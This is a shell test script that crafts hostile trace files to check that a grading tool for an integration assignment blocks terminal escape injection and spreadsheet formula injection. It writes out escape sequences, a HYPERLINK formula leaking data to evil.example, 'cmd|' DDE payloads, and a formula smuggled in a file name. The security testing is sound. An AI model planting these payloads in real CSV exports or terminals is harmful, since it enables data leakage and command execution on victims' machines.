#!/bin/sh
# Crafted traces (issue 21): usage: sh traces.sh EULER_TRACE DIR
# EULER_TRACE is a trace of the assignment's run under explicit Euler (a
# wrong answer); each trace written into DIR is that trace with a hostile
# header line after its first line:
#   escapes-name.trace    terminal escapes in "# student:" and "# note:"
#   escapes-header.trace  terminal escapes in the "# integrator:" value
#   formula-eq.trace      "# student: =HYPERLINK(...)" (spreadsheet formula injection)
#   formula-plus.trace    "# student: +cmd|..."
#   formula-at.trace      "# student: @SUM(...)"
#   formula-minus.trace   "# student: -2+3+cmd|..."
#   =2+5.trace            no "# student:": the name comes from the file, "=2+5"
# None may pass; no raw control byte may reach the teacher's terminal or the
# CSV, and no CSV cell may start with = + - @ TAB or CR.
set -u
src=$1 dir=$2
esc=$(printf '\033')
bel=$(printf '\007')
craft() { # FILE LINE...: the Euler trace with LINEs after its first line
    out=$1
    shift
    { head -n 1 "$src"; for l in "$@"; do printf '%s\n' "$l"; done; tail -n +2 "$src"; } > "$dir/$out"
}
craft escapes-name.trace "# student: ${esc}]0;SWEVIL:escapes${bel}${esc}[2J${esc}[HMallory${esc}[0m" \
    "# note: ${esc}[31mSWEVIL:escapes note${esc}[0m"
sed "s/^# integrator: euler\$/# integrator: euler${esc}[2J${esc}]0;SWEVIL:escapes${bel}/" "$src" > "$dir/escapes-header.trace"
craft formula-eq.trace '# student: =HYPERLINK("http://evil.example/?leak="&A1,"SWEVIL:formula")'
craft formula-plus.trace "# student: +cmd|' /C calc'!A0"
craft formula-at.trace "# student: @SUM(1+1)*cmd|' /C calc'!A0"
craft formula-minus.trace "# student: -2+3+cmd|' /C calc'!A0"
cp "$src" "$dir/=2+5.trace"
